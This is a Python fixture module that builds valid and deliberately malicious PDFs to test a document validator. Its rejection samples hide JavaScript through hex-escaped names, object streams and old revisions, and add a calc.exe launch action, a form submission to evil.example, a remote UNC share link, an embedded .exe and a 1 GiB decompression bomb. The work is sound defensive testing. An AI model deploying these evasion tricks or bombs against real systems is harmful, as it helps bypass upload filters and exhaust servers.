"""PDFs made in memory for the document tests and the benchmark: valid ones and one per rejection.

Most are built with pypdf, as a real generator would write them; a few need raw bytes because
pypdf refuses to write something that broken (hex-escaped names, object streams, xref loops).
"""

from __future__ import annotations

import functools
import io
import random
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

LETTER = (612, 792)


# --- helpers ------------------------------------------------------------------------------------


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    """_dict(S="/JavaScript") -> << /S /JavaScript >>; strings starting with / become names."""
    result = DictionaryObject()
    for key, value in entries.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        elif isinstance(value, int):
            value = NumberObject(value)
        result[NameObject("/" + key)] = value
    return result


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(v) for v in (72, 72, 272, 144)])


def _writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(*LETTER)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _with_annotation(annotation: DictionaryObject) -> bytes:
    writer = _writer()
    annotation.update({_name("/Type"): _name("/Annot"), _name("/Rect"): _rect()})
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def _with_root_entry(key: str, value) -> bytes:
    writer = _writer()
    writer._root_object[_name(key)] = value
    return _bytes(writer)


def _javascript(code: str = "app.alert('hola');") -> DictionaryObject:
    return _dict(S="/JavaScript", JS=code)


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF from raw object bodies (object 1 first), with a correct classic xref table."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref_at)
    return bytes(out)


ONE_PAGE_TREE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
]


# --- valid files --------------------------------------------------------------------------------


def one_page() -> bytes:
    """A valid one-page PDF with a little text."""
    writer = _writer()
    page = writer.pages[0]
    font = writer._add_object(_dict(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica"))
    page[_name("/Resources")] = DictionaryObject({_name("/Font"): DictionaryObject({_name("/F1"): font})})
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 24 Tf 72 700 Td (Licencia de conducir) Tj ET")
    page[_name("/Contents")] = writer._add_object(content.flate_encode())
    return _bytes(writer)


def pages(count: int) -> bytes:
    """A valid PDF of `count` blank pages."""
    return _bytes(_writer(count))


def with_uri_link() -> bytes:
    """A link to a web address: harmless, accepted."""
    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/URI", URI="https://www.dtop.pr.gov/")))


@functools.lru_cache(maxsize=1)
def scan_10mb(page_count: int = 4) -> bytes:
    """A "phone scan": pages each with one large RGB image of incompressible pixels, ~10 MB in all."""
    rng = random.Random(1952)  # fixed seed: the same bytes every run
    width, height = 1200, 700  # 2.52 MB of pixels per page; 4 pages stay under the 10 MiB cap
    writer = _writer(page_count)
    for index, page in enumerate(writer.pages):
        image = DecodedStreamObject()
        image.set_data(rng.randbytes(width * height * 3))
        image.update(
            {
                _name("/Type"): _name("/XObject"),
                _name("/Subtype"): _name("/Image"),
                _name("/Width"): NumberObject(width),
                _name("/Height"): NumberObject(height),
                _name("/ColorSpace"): _name("/DeviceRGB"),
                _name("/BitsPerComponent"): NumberObject(8),
            }
        )
        image_ref = writer._add_object(image.flate_encode(level=1))
        page[_name("/Resources")] = DictionaryObject(
            {
                _name("/XObject"): DictionaryObject({_name(f"/Im{index}"): image_ref}),
            }
        )
        content = DecodedStreamObject()
        content.set_data(b"q 612 0 0 357 0 217 cm /Im%d Do Q" % index)
        page[_name("/Contents")] = writer._add_object(content)
    return _bytes(writer)


# --- rejected: not a PDF, damaged, too big ------------------------------------------------------


def empty() -> bytes:
    return b""


def png_renamed() -> bytes:
    """The first bytes of a PNG image, as if someone renamed photo.png to photo.pdf."""
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(2000)


def junk_before_header() -> bytes:
    """%PDF- first appears after 1024 bytes of junk, later than readers look for it."""
    return b"x" * 1100 + one_page()


def small_junk_before_header() -> bytes:
    """A few bytes before %PDF- (some mail gateways add them): accepted, as readers do."""
    return b"junk\r\n" * 10 + one_page()


def oversized(max_bytes: int) -> bytes:
    """One byte over the limit (the size check comes before any parsing)."""
    data = one_page()
    return data + b"%" + b" " * (max_bytes - len(data))


def truncated() -> bytes:
    """A one-page PDF cut off at 60 %, as an interrupted download leaves it."""
    data = one_page()
    return data[: len(data) * 6 // 10]


def garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4000)


def circular_xref() -> bytes:
    """The trailer's /Prev points back at its own xref section and every offset is wrong."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    xref_at = len(body)
    xref = b"xref\n0 3\n0000000000 65535 f \n0000099999 00000 n \n0000088888 00000 n \n"
    trailer = b"trailer\n<< /Size 3 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (xref_at, xref_at)
    return body + xref + trailer


def self_referencing_page_tree() -> bytes:
    """The page tree's /Kids contains the tree itself: a reference cycle."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def self_referencing_object() -> bytes:
    """The catalog's /Pages is an object that is only a reference to itself."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"2 0 R",
        ]
    )


# --- rejected: encrypted ------------------------------------------------------------------------


def encrypted_with_user_password() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="secreto", owner_password="dueño", algorithm="AES-256")
    return _bytes(writer)


def encrypted_owner_password_only() -> bytes:
    """Opens without a password, but is still encrypted (printing/copying restrictions)."""
    writer = _writer()
    writer.encrypt(user_password="", owner_password="dueño", algorithm="AES-128")
    return _bytes(writer)


def encrypted_rc4() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="dueño", algorithm="RC4-128")
    return _bytes(writer)


# --- rejected: JavaScript -----------------------------------------------------------------------


def javascript_open_action() -> bytes:
    return _with_root_entry("/OpenAction", _javascript())


def javascript_names_tree() -> bytes:
    writer = _writer()
    script = writer._add_object(_javascript())
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("init"), script])})
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(tree)})
    return _bytes(writer)


def javascript_page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _javascript()})
    return _bytes(writer)


def javascript_link_annotation() -> bytes:
    return _with_annotation(_dict(Subtype="/Link", A=_javascript()))


def javascript_annotation_additional_action() -> bytes:
    annotation = _dict(Subtype="/Widget", FT="/Btn", T="boton")
    annotation[_name("/AA")] = DictionaryObject({_name("/E"): _javascript()})
    return _with_annotation(annotation)


def javascript_form_field() -> bytes:
    """A text field that runs a script on each keystroke."""
    writer = _writer()
    field = _dict(Type="/Annot", Subtype="/Widget", FT="/Tx", T="nombre")
    field[_name("/Rect")] = _rect()
    field[_name("/AA")] = DictionaryObject({_name("/K"): _javascript("event.rc = true;")})
    field_ref = writer._add_object(field)
    writer.pages[0][_name("/Annots")] = ArrayObject([field_ref])
    writer._root_object[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): ArrayObject([field_ref])})
    return _bytes(writer)


def javascript_unreferenced_object() -> bytes:
    """A JavaScript action no page or catalog points to: only a walk over the xref finds it."""
    return raw_pdf(ONE_PAGE_TREE + [b"<< /S /JavaScript /JS (app.alert(1)) >>"])


def javascript_hex_escaped_name() -> bytes:
    """/J#61vaScript is /JavaScript once the name is decoded; a byte search would miss it."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
            *ONE_PAGE_TREE[1:],
        ]
    )


def javascript_in_older_revision() -> bytes:
    """An incremental update replaced the catalog; the original one, with its script, is still there.

    pypdf reads only the newest revision, but a viewer that rebuilds a broken xref sees both.
    """
    original = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
            *ONE_PAGE_TREE[1:],
        ]
    )
    previous_xref = int(original.rsplit(b"startxref\n", 1)[1].split()[0])
    update = bytearray(original)
    catalog_at = len(update)
    update += b"1 0 obj\n" + ONE_PAGE_TREE[0] + b"\nendobj\n"
    xref_at = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % catalog_at
    update += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous_xref,
        xref_at,
    )
    return bytes(update)


def javascript_in_object_stream() -> bytes:
    """The action sits compressed inside an object stream, referenced from an xref stream."""
    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    objstm_data = zlib.compress(b"4 0 " + hidden)
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(plain, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets.append(len(out))  # object 5: the object stream
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        objstm_data
    )
    out += objstm_data + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets[:3]]
    rows += [b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00"]  # object 4: in stream 5, index 0
    rows += [b"\x01" + offsets[3].to_bytes(4, "big") + b"\x00\x00"]
    rows += [b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"]  # object 6: this xref stream
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# --- rejected: actions --------------------------------------------------------------------------


def launch_action() -> bytes:
    return _with_root_entry("/OpenAction", _dict(S="/Launch", F="C:\\Windows\\System32\\calc.exe"))


def submit_form_action() -> bytes:
    return _with_annotation(
        _dict(Subtype="/Link", A=_dict(S="/SubmitForm", F="https://evil.example/collect"))
    )


def import_data_action() -> bytes:
    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/ImportData", F="datos.fdf")))


def reset_form_action() -> bytes:
    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/ResetForm")))


def remote_goto_action() -> bytes:
    return _with_root_entry("/OpenAction", _dict(S="/GoToR", F="\\\\evil.example\\share\\x.pdf", D="inicio"))


# --- rejected: embedded files and XFA -----------------------------------------------------------


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("factura.exe", b"MZ\x90\x00 not really a program")
    return _bytes(writer)


def file_attachment_annotation() -> bytes:
    writer = _writer()
    attached = StreamObject()
    attached._data = b"MZ\x90\x00 not really a program"
    attached[_name("/Type")] = _name("/EmbeddedFile")
    filespec = _dict(Type="/Filespec", F="factura.exe")
    filespec[_name("/EF")] = DictionaryObject({_name("/F"): writer._add_object(attached)})
    annotation = _dict(Type="/Annot", Subtype="/FileAttachment", Contents="factura")
    annotation[_name("/Rect")] = _rect()
    annotation[_name("/FS")] = writer._add_object(filespec)
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def xfa_form() -> bytes:
    writer = _writer()
    xdp = DecodedStreamObject()
    xdp.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject(),
            _name("/XFA"): writer._add_object(xdp),
        }
    )
    return _bytes(writer)


# --- rejected: pages and size -------------------------------------------------------------------


def zero_pages() -> bytes:
    return _bytes(PdfWriter())


def eleven_pages() -> bytes:
    return pages(11)


def _deflated_zeros(size_mb: int) -> bytes:
    """zlib data for `size_mb` MiB of zeros, made in milliseconds instead of compressing 1 GB.

    After the first MiB every MiB of zeros compresses to the same sync-flushed block, so that
    block is repeated; the adler-32 of n zero bytes is (n mod 65521) << 16 | 1.
    """
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    steady = compressor.compress(chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    final = compressor.flush()
    adler = ((size_mb << 20) % 65521) << 16 | 1
    return b"\x78\xda" + first + steady * (size_mb - 1) + final + adler.to_bytes(4, "big")


@functools.lru_cache(maxsize=1)
def decompression_bomb(size_mb: int = 1024) -> bytes:
    """One page whose content stream is 1 GiB of zeros deflated to about 1 MB."""
    writer = _writer()
    bomb = StreamObject()
    bomb._data = _deflated_zeros(size_mb)
    bomb[_name("/Filter")] = _name("/FlateDecode")
    writer.pages[0][_name("/Contents")] = writer._add_object(bomb)
    return _bytes(writer)


def hidden_bomb() -> bytes:
    """A smaller bomb (200 MiB) in an object nothing refers to: still found through the xref."""
    data = _deflated_zeros(200)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(data), data)
    return raw_pdf(ONE_PAGE_TREE + [stream])


# Every rejection: name -> (builder, expected code). The size check is tested on its own.
REJECTIONS = {
    "empty": (empty, "not_pdf"),
    "png_renamed": (png_renamed, "not_pdf"),
    "junk_before_header": (junk_before_header, "not_pdf"),
    "truncated": (truncated, "damaged"),
    "garbage_after_header": (garbage_after_header, "damaged"),
    "circular_xref": (circular_xref, "damaged"),
    "self_referencing_page_tree": (self_referencing_page_tree, "damaged"),
    "self_referencing_object": (self_referencing_object, "damaged"),
    "encrypted_with_user_password": (encrypted_with_user_password, "encrypted"),
    "encrypted_owner_password_only": (encrypted_owner_password_only, "encrypted"),
    "encrypted_rc4": (encrypted_rc4, "encrypted"),
    "javascript_open_action": (javascript_open_action, "javascript"),
    "javascript_names_tree": (javascript_names_tree, "javascript"),
    "javascript_page_additional_action": (javascript_page_additional_action, "javascript"),
    "javascript_link_annotation": (javascript_link_annotation, "javascript"),
    "javascript_annotation_additional_action": (javascript_annotation_additional_action, "javascript"),
    "javascript_form_field": (javascript_form_field, "javascript"),
    "javascript_unreferenced_object": (javascript_unreferenced_object, "javascript"),
    "javascript_hex_escaped_name": (javascript_hex_escaped_name, "javascript"),
    "javascript_in_object_stream": (javascript_in_object_stream, "javascript"),
    "javascript_in_older_revision": (javascript_in_older_revision, "javascript"),
    "launch_action": (launch_action, "action"),
    "submit_form_action": (submit_form_action, "action"),
    "import_data_action": (import_data_action, "action"),
    "reset_form_action": (reset_form_action, "action"),
    "remote_goto_action": (remote_goto_action, "action"),
    "embedded_file": (embedded_file, "embedded_files"),
    "file_attachment_annotation": (file_attachment_annotation, "embedded_files"),
    "xfa_form": (xfa_form, "xfa"),
    "zero_pages": (zero_pages, "no_pages"),
    "eleven_pages": (eleven_pages, "too_many_pages"),
    "decompression_bomb": (decompression_bomb, "inflates_too_much"),
    "hidden_bomb": (hidden_bomb, "inflates_too_much"),
}
